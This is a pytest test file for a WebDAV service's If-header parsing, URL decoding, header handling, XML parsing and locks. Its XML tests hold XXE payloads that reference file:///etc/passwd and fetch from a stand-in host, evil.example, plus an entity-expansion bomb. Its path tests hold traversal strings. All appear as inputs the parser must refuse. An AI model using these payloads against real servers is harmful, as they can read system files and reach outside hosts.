"""WebDAV's protocol pieces on their own: If header, URLs, Depth and friends, XML, locks."""
from __future__ import annotations

import pytest

from services.webdav.conditions import NO_LOCK, Condition, State, parse_if
from services.webdav.davxml import parse, serialize, stored, to_text
from services.webdav.errors import DavError
from services.webdav.headers import INFINITY, MAX_TIMEOUT, depth, overwrite, timeout
from services.webdav.locks import LockTable
from services.webdav.urls import from_url, to_href, to_path

TOKEN = "opaquelocktoken:4f3c0b8e-4b1c-4c1e-9a39-d1d36c3c8c1a"


def _status(exc: pytest.ExceptionInfo[DavError]) -> int:
    return exc.value.status


# --- If header (RFC 4918 §10.4) ---

def test_if_untagged_lists_with_not_and_etags() -> None:
    header = parse_if(f'(<{TOKEN}> ["abc-1"]) (Not <{NO_LOCK}>)')
    assert [c.tag for c in header.clauses] == [None, None]
    assert header.clauses[0].conditions == (Condition(False, token=TOKEN),
                                            Condition(False, etag='"abc-1"'))
    assert header.clauses[1].conditions == (Condition(True, token=NO_LOCK),)
    assert header.tokens() == {TOKEN}  # DAV:no-lock is under Not: not submitted


def test_if_tagged_lists_keep_their_resource() -> None:
    header = parse_if(f'<http://box/dav/a b/> (<{TOKEN}>) ([W/"x"]) </dav/c> (Not ["y"])')
    assert [c.tag for c in header.clauses] == ["http://box/dav/a b/", "http://box/dav/a b/",
                                               "/dav/c"]
    assert header.tags() == {"http://box/dav/a b/", "/dav/c"}


@pytest.mark.parametrize("raw", [
    "", "()", f"(<{TOKEN}>", f"<{TOKEN}>", f"(<{TOKEN}>) </dav/x> (<{TOKEN}>)",
    f"</dav/x> (<{TOKEN}>) (<{TOKEN}>) </dav/y>", '(Not)', '(Not Not <a:b>)', '(["x])',
    'garbage', f'(<{TOKEN}>) junk',
])
def test_if_syntax_errors_are_400(raw: str) -> None:
    with pytest.raises(DavError) as exc:
        parse_if(raw)
    assert _status(exc) == 400 and "If header" in exc.value.message


def test_if_evaluation_is_any_list_all_conditions() -> None:
    locked = State('"e1"', frozenset({TOKEN}))
    free = State('"e1"', frozenset())
    gone = State(None, frozenset())

    def holds(raw: str, state: State) -> bool:
        return parse_if(raw).holds(lambda tag: state)

    assert holds(f'(<{TOKEN}> ["e1"])', locked)
    assert not holds(f'(<{TOKEN}> ["e2"])', locked)
    assert not holds(f'(<{TOKEN}>)', free)  # an expired lock: 412
    assert holds(f'(<{TOKEN}>) (Not <{NO_LOCK}>)', free)  # the second list holds
    assert not holds(f'(<{NO_LOCK}>)', locked)
    assert not holds('(["e1"])', gone)
    assert holds('(Not ["e1"])', gone)
    assert not holds('([W/"e1"])', locked)  # weak tags never match strongly
    assert not holds(f'(<{TOKEN}> [W/"e1"]) (Not <{NO_LOCK}> [W/"e1"])', locked)


def test_if_tagged_lists_are_judged_on_their_own_resource() -> None:
    header = parse_if(f'</dav/coll/> (<{TOKEN}>)')
    states = {"/dav/coll/": State(None, frozenset({TOKEN})), None: State(None, frozenset())}
    assert header.holds(lambda tag: states[tag])
    assert not header.holds(lambda tag: State(None, frozenset()))


# --- URLs and paths ---

def test_paths_are_decoded_segment_by_segment_in_nfc() -> None:
    assert to_path("/dav/", "/dav/") == "/" and to_path("/dav", "/dav/") == "/"
    assert to_path("/dav/Photos/caf%C3%A9%20au%20lait.jpg", "/dav/") == \
        "/Photos/café au lait.jpg"
    nfd = "/dav/cafe%CC%81/"  # macOS sends e + combining acute
    assert to_path(nfd, "/dav/") == "/café"
    assert to_path("/dav//a///b/", "/dav/") == "/a/b"
    for bad in ("/dav/a%2Fb", "/dav/a/../b", "/dav/./a", "/dav/%00", "/dav/%FF"):
        with pytest.raises(DavError) as exc:
            to_path(bad, "/dav/")
        assert _status(exc) == 400, bad


def test_hrefs_are_percent_encoded() -> None:
    assert to_href("/", "/dav/", collection=True) == "/dav/"
    assert to_href("/a b/中文 😀", "/dav/", collection=True) == \
        "/dav/a%20b/%E4%B8%AD%E6%96%87%20%F0%9F%98%80/"
    assert to_href("/r#1?x:y", "/dav/") == "/dav/r%231%3Fx%3Ay"


def test_destinations_absolute_or_relative_same_host_only() -> None:
    def dest(url: str, host: str = "box.local:8080", scheme: str = "http") -> str:
        return from_url(url, scheme=scheme, host=host, prefix="/dav/")

    assert dest("http://box.local:8080/dav/x%20y/") == "/x y"
    assert dest("http://BOX.local:8080/dav/x") == "/x"
    assert dest("/dav/%E4%B8%AD") == "/中"
    assert dest("http://box.local/dav/x", host="box.local:80") == "/x"
    assert dest("https://box.local/dav/x", host="box.local", scheme="https") == "/x"
    assert dest("http://[::1]:8080/dav/x", host="[::1]:8080") == "/x"
    for url, status in (("http://other.example/dav/x", 502), ("http://box.local:9/dav/x", 502),
                        ("http://box.local:8080/elsewhere", 502), ("ftp://box.local/dav/x", 400),
                        ("dav/x", 400), ("http://box.local:8080/dav/../x", 400)):
        with pytest.raises(DavError) as exc:
            dest(url)
        assert _status(exc) == status, url


# --- Depth, Overwrite, Timeout ---

def test_depth_header() -> None:
    both = (0, INFINITY)
    assert depth({}, default=INFINITY, allowed=both) == INFINITY
    assert depth({"Depth": "0"}, default=INFINITY, allowed=both) == 0
    assert depth({"Depth": "Infinity"}, default=0, allowed=both) == INFINITY
    assert depth({"Depth": " 1 "}, default=0, allowed=(0, 1)) == 1
    for raw in ("1", "2", "-1", "", "infinite"):
        with pytest.raises(DavError) as exc:
            depth({"Depth": raw}, default=0, allowed=both)
        assert _status(exc) == 400 and "Depth" in exc.value.message


def test_overwrite_and_timeout_headers() -> None:
    assert overwrite({}) and overwrite({"Overwrite": "t"}) and not overwrite({"Overwrite": "F"})
    with pytest.raises(DavError):
        overwrite({"Overwrite": "yes"})
    assert timeout({"Timeout": "Second-30"}) == 30
    assert timeout({"Timeout": "Infinite, Second-4100000000"}) == MAX_TIMEOUT
    assert timeout({"Timeout": "Second-99999999999"}) == MAX_TIMEOUT
    assert timeout({"Timeout": "bogus, Second-5"}) == 5
    assert 0 < timeout({}) <= MAX_TIMEOUT


# --- XML ---

@pytest.mark.parametrize("body", [
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaa">]><propfind xmlns="DAV:"/>',
    (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'
     b'<lolz>&lol2;</lolz>'),
    b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><x/>',
])
def test_xml_with_a_dtd_is_refused(body: bytes) -> None:
    with pytest.raises(DavError) as exc:
        parse(body)
    assert _status(exc) == 400 and "DOCTYPE" in exc.value.message


@pytest.mark.parametrize("body", [b"<a>", b"", b"<D:x xmlns:D='DAV:'><b:y xmlns:b=''/></D:x>",
                                  b"<a>&undefined;</a>"])
def test_broken_xml_is_400(body: bytes) -> None:
    with pytest.raises(DavError) as exc:
        parse(body)
    assert _status(exc) == 400


def test_dead_property_values_keep_namespaces_and_text() -> None:
    root = parse('<D:prop xmlns:D="DAV:" xmlns:z="http://ex/"><z:p xml:lang="fr">é '
                 '<z:child a="1"><deep xmlns="urn:x">中</deep></z:child></z:p>'
                 '<plain xmlns="">v</plain></D:prop>'.encode())
    value = stored(to_text(root[0]))
    assert value.tag == "{http://ex/}p" and value.text == "é "
    assert value.get("{http://www.w3.org/XML/1998/namespace}lang") == "fr"
    assert value[0][0].tag == "{urn:x}deep" and value[0][0].text == "中"
    assert stored(to_text(root[1])).tag == "plain"
    assert b'xmlns:D="DAV:"' in serialize(root)


# --- Locks ---

def test_lock_scopes_conflicts_and_expiry() -> None:
    now = [0.0]
    table = LockTable(clock=lambda: now[0])
    coll = table.add("/c", depth=INFINITY, exclusive=False, owner=None, principal="a",
                     timeout=60)
    assert table.covering("/c/x/y") == [coll] and table.covering("/cx") == []
    assert table.conflicts("/c/x", 0, exclusive=True) == [coll]
    assert table.conflicts("/c/x", 0, exclusive=False) == []
    leaf = table.add("/d/f", depth=0, exclusive=True, owner=None, principal="a", timeout=10)
    assert table.conflicts("/d", INFINITY, exclusive=False) == [leaf]
    assert table.conflicts("/d", 0, exclusive=True) == []
    assert table.beneath("/") == [coll, leaf]
    now[0] = 11
    assert table.get(leaf.token) is None and table.remaining(coll) == 49
    table.refresh(coll, 100)
    now[0] = 70
    assert table.get(coll.token) is coll
    table.forget("/c")
    assert table.beneath("/") == []
    assert coll.token.startswith("opaquelocktoken:") and len(coll.token) == 52
